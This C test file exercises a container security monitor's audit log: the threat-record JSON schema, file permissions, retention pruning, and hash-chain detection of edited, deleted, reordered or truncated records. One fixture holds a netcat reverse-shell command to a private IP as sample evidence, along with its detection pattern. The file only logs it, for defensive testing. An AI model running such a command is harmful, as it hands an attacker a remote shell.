/* SPDX-License-Identifier: MIT */
/* The audit log: the original's schema, one line per finding, 0600, retention. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "monitor/audit-chain.h"
#include "monitor/audit.h"
#include "monitor/opts.h"
#include "monitor/responder.h"
#include "tap.h"
#include "util/buf.h"
#include "util/error.h"
#include "util/json.h"
#include "util/path.h"

static char home[] = "/tmp/coi-test-audit-XXXXXX";

static void test_schema(void)
{
	struct threat t = {.level = THREAT_CRITICAL,
	                   .category = "process",
	                   .title = "Reverse shell detected",
	                   .description = "d",
	                   .rule = "revshell-netcat",
	                   .action = ACTION_KILLED,
	                   .kind = EVIDENCE_PROCESS};
	_cleanup_free_ char *s = NULL;
	_cleanup_json_ json_t *j = NULL;
	struct coi_error err = {0};

	threat_init(&t);
	t.ev.process.pid = 42;
	t.ev.process.command = "nc -e /bin/sh 10.0.0.1 4444";
	t.ev.process.user = "1000";
	t.ev.process.pattern = "nc -e";
	t.ev.process.indicators[0] = "netcat runs a program";
	CHECK(threat_to_json(&t, &s, &err) == 0);
	CHECK(!strchr(s, '\n'));
	CHECK(json_parse(s, strlen(s), &j, &err) == 0);
	CHECK(strlen(json_get_str(j, "id")) == 36 && json_get_str(j, "id")[14] == '4');
	CHECK(strlen(json_get_str(j, "timestamp")) == 30);
	CHECK(json_get_str(j, "timestamp")[29] == 'Z');
	CHECK_STREQ(json_get_str(j, "level"), "critical");
	CHECK_STREQ(json_get_str(j, "category"), "process");
	CHECK_STREQ(json_get_str(j, "title"), "Reverse shell detected");
	CHECK_STREQ(json_get_str(j, "action"), "killed");
	CHECK(json_object_size(json_get_obj(j, "evidence")) == 1);
	CHECK(json_get_int(json_get_path(j, "evidence.process"), "pid", 0) == 42);
	CHECK_STREQ(json_get_str(json_get_path(j, "evidence.process"), "pattern"), "nc -e");
	CHECK(json_array_size(json_get_arr(json_get_path(j, "evidence.process"), "indicators")) ==
	      1);
}

static void test_evidence_kinds(void)
{
	struct threat t = {.level = THREAT_HIGH, .category = "network", .title = "x"};
	struct coi_error err = {0};
	const char *keys[] = {"network", "filesystem", "file_write", "process_count", "disk_space"};
	enum evidence_kind kinds[] = {EVIDENCE_NETWORK, EVIDENCE_FILESYSTEM, EVIDENCE_FILE_WRITE,
	                              EVIDENCE_PROCESS_COUNT, EVIDENCE_DISK_SPACE};

	threat_init(&t);
	t.ev.network.remote_addr = "192.168.1.1:80";
	for (size_t i = 0; i < ELEMENTSOF(kinds); i++) {
		_cleanup_free_ char *s = NULL;
		_cleanup_json_ json_t *j = NULL;

		t.kind = kinds[i];
		if (kinds[i] == EVIDENCE_DISK_SPACE)
			t.ev.disk =
			        (typeof(t.ev.disk)){.path = "/tmp", .used_mb = 9, .total_mb = 10};
		CHECK(threat_to_json(&t, &s, &err) == 0);
		CHECK(json_parse(s, strlen(s), &j, &err) == 0);
		CHECK(json_get_obj(json_get_obj(j, "evidence"), keys[i]) != NULL);
	}
}

static void test_write_and_retention(void)
{
	_cleanup_(freep) char *path = NULL;
	_cleanup_buf_ struct buf b = BUF_INIT(1 << 20);
	struct coi_error err = {0};
	struct audit *a = NULL;
	struct threat t = {.level = THREAT_WARNING, .category = "environment", .title = "t"};
	struct stat st;
	int lines = 0;

	CHECK(audit_path("../x", &path, &err) == -EINVAL);
	CHECK(audit_open("coi-t-1", 30, &a, &err) == 0);
	threat_init(&t);
	t.time.tv_sec -= 40 * 86400; /* an old line */
	CHECK(audit_write(a, &t, &err) == 0);
	threat_init(&t);
	CHECK(audit_write(a, &t, &err) == 0);
	t.time.tv_sec -= 40 * 86400; /* an old line after a new one stays: only the front goes */
	CHECK(audit_write(a, &t, &err) == 0);
	a = audit_close(a);
	CHECK(audit_path("coi-t-1", &path, &err) == 0);
	CHECK(stat(path, &st) == 0 && (st.st_mode & 0777) == 0600);
	CHECK(read_file(path, &b, &err) == 0);
	for (size_t i = 0; i < b.len; i++)
		lines += b.data[i] == '\n';
	CHECK(lines == 3);
	/* Reopening prunes the old line: a pruning record takes its place. */
	CHECK(audit_open("coi-t-1", 30, &a, &err) == 0);
	a = audit_close(a);
	buf_reset(&b);
	CHECK(read_file(path, &b, &err) == 0);
	lines = 0;
	for (size_t i = 0; i < b.len; i++)
		lines += b.data[i] == '\n';
	CHECK(lines == 3);
	CHECK(strstr(buf_str(&b), "\"event\":\"pruned\",\"records\":1,\"seq\":1,") != NULL);
}

/* Retention covers the logs of containers long gone, not only the one being opened. */
static void test_retention_dir(void)
{
	_cleanup_(freep) char *path = NULL, *old = NULL, *fresh = NULL, *other = NULL;
	struct timespec ts[2] = {{.tv_sec = time(NULL) - 40 * 86400}, {0}};
	struct coi_error err = {0};
	struct audit *a = NULL;

	ts[1] = ts[0];
	CHECK(audit_path("coi-t-old", &old, &err) == 0);
	CHECK(audit_path("coi-t-fresh", &fresh, &err) == 0);
	CHECK(asprintf(&other, "%s/audit/notes.txt", home) > 0);
	CHECK(write_file_atomic(old, "{}\n", 3, 0600, &err) == 0);
	CHECK(write_file_atomic(fresh, "{}\n", 3, 0600, &err) == 0);
	CHECK(write_file_atomic(other, "x", 1, 0600, &err) == 0);
	CHECK(utimensat(AT_FDCWD, old, ts, 0) == 0);
	CHECK(utimensat(AT_FDCWD, other, ts, 0) == 0);
	CHECK(audit_open("coi-t-2", 0, &a, &err) == 0); /* 0: keep all */
	a = audit_close(a);
	CHECK(access(old, F_OK) == 0);
	CHECK(audit_open("coi-t-2", 30, &a, &err) == 0);
	a = audit_close(a);
	CHECK(access(old, F_OK) < 0 && errno == ENOENT);
	CHECK(access(fresh, F_OK) == 0);
	CHECK(access(other, F_OK) == 0); /* only audit logs */
	CHECK(audit_path("coi-t-2", &path, &err) == 0 && access(path, F_OK) == 0);
	CHECK(audit_prune_dir("/nonexistent-coi-t", 0, &err) == 0);
}

/* ---- the chain ----------------------------------------------------------------------------- */

static char *log_path(const char *name)
{
	char *p = NULL;

	CHECK(audit_path(name, &p, NULL) == 0);
	return p;
}

/* n records in a fresh log of name. */
static void write_records(const char *name, int n)
{
	_cleanup_(freep) char *path = log_path(name), *head = NULL;
	struct threat t = {.level = THREAT_WARNING, .category = "environment", .title = "t"};
	struct audit *a = NULL;

	CHECK(audit_head_path(name, &head, NULL) == 0);
	(void)unlink(path);
	(void)unlink(head);
	CHECK(audit_open(name, 0, &a, NULL) == 0);
	for (int i = 0; i < n; i++) {
		char d[16];

		snprintf(d, sizeof(d), "record %d", i + 1);
		threat_init(&t);
		t.description = d;
		CHECK(audit_write(a, &t, NULL) == 0);
	}
	audit_close(a);
}

/* The lines of name's log. */
static size_t read_lines(const char *name, char lines[][4096], size_t max)
{
	_cleanup_(freep) char *path = log_path(name);
	_cleanup_buf_ struct buf b = BUF_INIT(1 << 20);
	size_t n = 0;

	CHECK(read_file(path, &b, NULL) == 0);
	for (const char *p = buf_str(&b); *p && n < max; n++) {
		size_t len = strcspn(p, "\n");

		snprintf(lines[n], 4096, "%.*s", (int)len, p);
		p += len + (p[len] == '\n');
	}
	return n;
}

/* Rewrites name's log with the given lines (by index, -1 ends). */
static void write_lines(const char *name, char lines[][4096], const int *order)
{
	_cleanup_(freep) char *path = log_path(name);
	_cleanup_buf_ struct buf b = BUF_INIT(1 << 20);

	for (const int *i = order; *i >= 0; i++)
		CHECK(buf_printf(&b, "%s\n", lines[*i]) >= 0);
	CHECK(write_file_atomic(path, b.data ? b.data : "", b.len, 0600, NULL) == 0);
}

static enum audit_problem verify(const char *name, struct audit_verify *v)
{
	CHECK(audit_verify_log(name, NULL, v, NULL) == 0);
	return v->problem;
}

static void test_chain_intact(void)
{
	struct audit_verify v;
	char lines[8][4096];
	_cleanup_json_ json_t *j = NULL;

	write_records("coi-t-c", 5);
	CHECK(verify("coi-t-c", &v) == AUDIT_INTACT);
	CHECK(v.records == 5 && v.first.seq == 1 && v.last.seq == 5 && v.problems == 0);
	CHECK(read_lines("coi-t-c", lines, 8) == 5);
	CHECK(json_parse(lines[0], strlen(lines[0]), &j, NULL) == 0);
	CHECK(json_get_int(j, "seq", 0) == 1);
	CHECK_STREQ(json_get_str(j, "prev"), AUDIT_GENESIS);
	/* the original's fields are all still there */
	CHECK(json_get_str(j, "id") && json_get_str(j, "timestamp") && json_get_obj(j, "evidence"));
}

static void test_chain_edit(void)
{
	struct audit_verify v;
	char lines[8][4096];
	char *p;

	write_records("coi-t-c", 5);
	CHECK(read_lines("coi-t-c", lines, 8) == 5);
	p = strstr(lines[2], "record 3");
	CHECK(p != NULL);
	if (p)
		p[7] = '9'; /* "record 9" */
	write_lines("coi-t-c", lines, (int[]){0, 1, 2, 3, 4, -1});
	CHECK(verify("coi-t-c", &v) == AUDIT_EDITED);
	CHECK(v.problem_line == 3);
	/* the last line edited: only the head can tell */
	write_records("coi-t-c", 5);
	CHECK(read_lines("coi-t-c", lines, 8) == 5);
	p = strstr(lines[4], "\"warning\"");
	CHECK(p != NULL);
	if (p)
		memcpy(p, "\"info\"   ", 9);
	write_lines("coi-t-c", lines, (int[]){0, 1, 2, 3, 4, -1});
	CHECK(verify("coi-t-c", &v) == AUDIT_EDITED);
	CHECK(v.problem_line == 5);
}

static void test_chain_delete_reorder_truncate(void)
{
	struct audit_verify v;
	char lines[8][4096];

	write_records("coi-t-c", 5);
	CHECK(read_lines("coi-t-c", lines, 8) == 5);
	write_lines("coi-t-c", lines, (int[]){0, 1, 3, 4, -1}); /* record 3 deleted */
	CHECK(verify("coi-t-c", &v) == AUDIT_MISSING);
	CHECK(v.problem_line == 3 && strstr(v.what, "record 3 is missing") != NULL);
	write_lines("coi-t-c", lines, (int[]){0, 2, 1, 3, 4, -1}); /* 2 and 3 swapped */
	CHECK(verify("coi-t-c", &v) == AUDIT_REORDERED);
	CHECK(v.problem_line == 2);
	write_lines("coi-t-c", lines, (int[]){0, 1, 2, 3, -1}); /* the last line deleted */
	CHECK(verify("coi-t-c", &v) == AUDIT_TRUNCATED);
	write_lines("coi-t-c", lines, (int[]){1, 2, 3, 4, -1}); /* the first line deleted */
	CHECK(verify("coi-t-c", &v) == AUDIT_MISSING);
	CHECK(v.problem_line == 1);
	write_lines("coi-t-c", lines, (int[]){0, 1, 2, 2, 3, 4, -1}); /* a line repeated */
	CHECK(verify("coi-t-c", &v) == AUDIT_REORDERED);
	CHECK(v.problem_line == 4);
}

/* A writer that reopens a truncated log records it in the chain, so the evidence outlives the
 * head it overwrites. */
static void test_chain_truncation_noted(void)
{
	_cleanup_(freep) char *head = NULL;
	struct threat t = {.level = THREAT_INFO, .category = "x", .title = "t"};
	struct audit_verify v;
	char lines[8][4096];
	struct audit *a = NULL;

	write_records("coi-t-c", 3);
	CHECK(read_lines("coi-t-c", lines, 8) == 3);
	write_lines("coi-t-c", lines, (int[]){0, 1, -1});
	CHECK(audit_open("coi-t-c", 0, &a, NULL) == 0);
	threat_init(&t);
	CHECK(audit_write(a, &t, NULL) == 0);
	audit_close(a);
	CHECK(verify("coi-t-c", &v) == AUDIT_NOTED);
	CHECK(v.problem_line == 3);
	CHECK(read_lines("coi-t-c", lines, 8) == 4);
	CHECK(strstr(lines[2], "\"event\":\"truncated\"") && strstr(lines[2], "\"seq\":3,"));
	/* the head removed: noted the same way */
	write_records("coi-t-c", 2);
	CHECK(audit_head_path("coi-t-c", &head, NULL) == 0 && unlink(head) == 0);
	CHECK(verify("coi-t-c", &v) == AUDIT_NO_HEAD);
	CHECK(audit_open("coi-t-c", 0, &a, NULL) == 0);
	audit_close(a); /* closing writes the note even without a record */
	CHECK(verify("coi-t-c", &v) == AUDIT_NOTED);
}

static void test_chain_prune(void)
{
	_cleanup_(freep) char *path = log_path("coi-t-p");
	struct threat t = {.level = THREAT_WARNING, .category = "environment", .title = "t"};
	struct audit_verify v;
	struct audit_link anchor;
	char lines[8][4096];
	struct audit *a = NULL;

	(void)unlink(path);
	CHECK(audit_open("coi-t-p", 0, &a, NULL) == 0);
	for (int i = 0; i < 5; i++) {
		threat_init(&t);
		if (i < 3)
			t.time.tv_sec -= 40 * 86400;
		CHECK(audit_write(a, &t, NULL) == 0);
	}
	audit_close(a);
	CHECK(verify("coi-t-p", &v) == AUDIT_INTACT);
	anchor = v.last;
	CHECK(audit_open("coi-t-p", 30, &a, NULL) == 0);
	audit_close(a);
	CHECK(read_lines("coi-t-p", lines, 8) == 3);
	CHECK(verify("coi-t-p", &v) == AUDIT_INTACT);
	CHECK(v.pruned == 3 && v.records == 2 && v.first.seq == 4 && v.last.seq == 5);
	CHECK(audit_verify_log("coi-t-p", &anchor, &v, NULL) == 0 && v.problem == AUDIT_INTACT);
	/* and still catches an edit after the pruning */
	memcpy(strstr(lines[1], "warning"), "WARNING", 7);
	write_lines("coi-t-p", lines, (int[]){0, 1, 2, -1});
	CHECK(verify("coi-t-p", &v) == AUDIT_EDITED && v.problem_line == 2);
	/* the marker's link is checked too */
	CHECK(read_lines("coi-t-p", lines, 8) == 3);
	write_records("coi-t-p", 0);
	CHECK(audit_open("coi-t-p", 0, &a, NULL) == 0);
	for (int i = 0; i < 4; i++) {
		threat_init(&t);
		if (i < 2)
			t.time.tv_sec -= 40 * 86400;
		CHECK(audit_write(a, &t, NULL) == 0);
	}
	audit_close(a);
	CHECK(audit_prune(path, time(NULL) - 30 * 86400, NULL) == 2);
	CHECK(audit_prune(path, time(NULL) - 30 * 86400, NULL) == 0); /* idempotent */
	CHECK(verify("coi-t-p", &v) == AUDIT_INTACT && v.pruned == 2);
	CHECK(read_lines("coi-t-p", lines, 8) == 3);
	{
		char *h = strstr(lines[0], "\"hash\":\"");

		CHECK(h != NULL);
		if (h)
			h[8] = h[8] == '0' ? '1' : '0';
	}
	write_lines("coi-t-p", lines, (int[]){0, 1, 2, -1});
	CHECK(verify("coi-t-p", &v) == AUDIT_EDITED && v.problem_line == 1);
}

/* Retention stops at the first break: the evidence of an edit is never pruned away. */
static void test_chain_prune_keeps_evidence(void)
{
	_cleanup_(freep) char *path = log_path("coi-t-e");
	struct threat t = {.level = THREAT_WARNING, .category = "environment", .title = "t"};
	struct audit_verify v;
	char lines[8][4096];
	struct audit *a = NULL;

	(void)unlink(path);
	CHECK(audit_open("coi-t-e", 0, &a, NULL) == 0);
	for (int i = 0; i < 4; i++) {
		threat_init(&t);
		t.time.tv_sec -= 40 * 86400;
		CHECK(audit_write(a, &t, NULL) == 0);
	}
	audit_close(a);
	CHECK(read_lines("coi-t-e", lines, 8) == 4);
	write_lines("coi-t-e", lines, (int[]){0, 2, 3, -1}); /* record 2 removed */
	CHECK(audit_prune(path, time(NULL) - 30 * 86400, NULL) == 1);
	CHECK(verify("coi-t-e", &v) == AUDIT_MISSING);
}

static void test_chain_legacy_and_torn(void)
{
	_cleanup_(freep) char *path = log_path("coi-t-l"), *head = NULL;
	struct threat t = {.level = THREAT_INFO, .category = "x", .title = "t"};
	struct audit_verify v;
	struct audit *a = NULL;
	const char *old = "{\"id\":\"1\",\"level\":\"info\"}\n{\"id\":\"2\",\"level\":\"info\"}\n";

	CHECK(audit_head_path("coi-t-l", &head, NULL) == 0);
	(void)unlink(head);
	CHECK(write_file_atomic(path, old, strlen(old), 0600, NULL) == 0);
	CHECK(verify("coi-t-l", &v) == AUDIT_NOT_CHAINED);
	CHECK(audit_open("coi-t-l", 0, &a, NULL) == 0);
	threat_init(&t);
	CHECK(audit_write(a, &t, NULL) == 0);
	audit_close(a);
	CHECK(verify("coi-t-l", &v) == AUDIT_INTACT);
	CHECK(v.legacy == 2 && v.records == 1);
	/* a torn last line: the next record starts a line of its own; verify names the damage */
	{
		int fd = open(path, O_WRONLY | O_APPEND);

		CHECK(fd >= 0 && write(fd, "{\"id\":", 6) == 6);
		close(fd);
	}
	CHECK(audit_open("coi-t-l", 0, &a, NULL) == 0);
	threat_init(&t);
	CHECK(audit_write(a, &t, NULL) == 0);
	audit_close(a);
	CHECK(verify("coi-t-l", &v) == AUDIT_BAD_LINE && v.problem_line == 4);
}

/* coi top's last finding: the newest at or above the level, repeats skipped. */
static void test_last_finding(void)
{
	_cleanup_(freep) char *path = log_path("coi-t-lf");
	struct threat t = {.category = "c"};
	struct audit_finding f;
	struct audit *a = NULL;

	(void)unlink(path);
	CHECK(audit_last_finding("coi-t-lf", THREAT_WARNING, &f) == -ENOENT);
	CHECK(audit_open("coi-t-lf", 0, &a, NULL) == 0);
	threat_init(&t);
	t.level = THREAT_HIGH, t.title = "first", t.action = ACTION_PAUSED;
	CHECK(audit_write(a, &t, NULL) == 0);
	t.level = THREAT_WARNING, t.title = "second", t.action = ACTION_ALERTED;
	CHECK(audit_write(a, &t, NULL) == 0);
	t.level = THREAT_HIGH, t.title = "repeat", t.action = ACTION_DEDUPLICATED;
	CHECK(audit_write(a, &t, NULL) == 0);
	t.level = THREAT_INFO, t.title = "record", t.action = ACTION_LOGGED;
	CHECK(audit_write(a, &t, NULL) == 0);
	audit_close(a);
	CHECK(audit_last_finding("coi-t-lf", THREAT_WARNING, &f) == 1);
	CHECK_STREQ(f.title, "second");
	CHECK(f.level == THREAT_WARNING && f.time > 0 && strcmp(f.action, "alerted") == 0);
	CHECK(audit_last_finding("coi-t-lf", THREAT_HIGH, &f) == 1);
	CHECK_STREQ(f.title, "first");
	CHECK(audit_last_finding("coi-t-lf", THREAT_CRITICAL, &f) == 0);
}

static void count_line(const struct threat *t, const char *line, const struct audit_link *link,
                       void *u)
{
	(void)t, (void)link;
	((unsigned *)u)[0]++;
	if (strstr(line, "more repeats not written"))
		((unsigned *)u)[1]++;
}

/* A finding repeated at every fork (a fork bomb: thousands a second) is one line, then its first
 * repeat, then at most one repeat a second: the chain and its exports are not flooded. */
static void test_repeats_rate_limited(void)
{
	struct monitor_opts o = {.container = "coi-t-rep"};
	struct responder *r = NULL;
	struct audit *a = NULL;
	unsigned lines[2] = {0, 0};

	CHECK(audit_open("coi-t-rep", 0, &a, NULL) == 0);
	audit_set_sink(a, count_line, lines);
	CHECK(responder_new(&o, a, NULL, &r) == 0);
	for (int i = 0; i < 5000; i++) {
		struct threat t = {.level = THREAT_WARNING,
		                   .category = "process",
		                   .title = "Process count spike detected",
		                   .rule = "proc-count",
		                   .description = "too many processes"};

		CHECK(responder_handle(r, &t, "proc-count", 0) == 0);
	}
	CHECK(lines[0] >= 2 &&
	      lines[0] <= 4); /* the finding, its first repeat (a slow run: more) */
	usleep(1100000);
	{
		struct threat t = {.level = THREAT_WARNING,
		                   .category = "process",
		                   .title = "Process count spike detected",
		                   .rule = "proc-count",
		                   .description = "too many processes"};
		unsigned before = lines[0];

		CHECK(responder_handle(r, &t, "proc-count", 0) == 0);
		CHECK(lines[0] == before + 1 && lines[1] >= 1); /* and how many were not */
	}
	responder_free(r);
	audit_close(a);
}

static void test_link_parse(void)
{
	struct audit_link l;
	char s[128];

	snprintf(s, sizeof(s), "12:%s", AUDIT_GENESIS);
	CHECK(audit_link_parse(s, &l) == 0 && l.seq == 12);
	snprintf(s, sizeof(s), "3:sha256:%s", AUDIT_GENESIS);
	CHECK(audit_link_parse(s, &l) == 0 && l.seq == 3);
	CHECK(audit_link_parse("0:00", &l) == -EINVAL);
	CHECK(audit_link_parse("x", &l) == -EINVAL);
	CHECK(audit_link_parse(NULL, &l) == -EINVAL);
	snprintf(s, sizeof(s), "1:%.63s", AUDIT_GENESIS);
	CHECK(audit_link_parse(s, &l) == -EINVAL);
}

int main(void)
{
	if (!mkdtemp(home))
		return 1;
	setenv("COI_HOME", home, 1);
	RUN(test_schema);
	RUN(test_evidence_kinds);
	RUN(test_write_and_retention);
	RUN(test_retention_dir);
	RUN(test_chain_intact);
	RUN(test_chain_edit);
	RUN(test_chain_delete_reorder_truncate);
	RUN(test_chain_truncation_noted);
	RUN(test_chain_prune);
	RUN(test_chain_prune_keeps_evidence);
	RUN(test_chain_legacy_and_torn);
	RUN(test_last_finding);
	RUN(test_repeats_rate_limited);
	RUN(test_link_parse);
	{
		char cmd[128];
		snprintf(cmd, sizeof(cmd), "rm -rf %s", home);
		if (system(cmd) != 0)
			printf("# cleanup failed\n");
	}
	return tap_done();
}
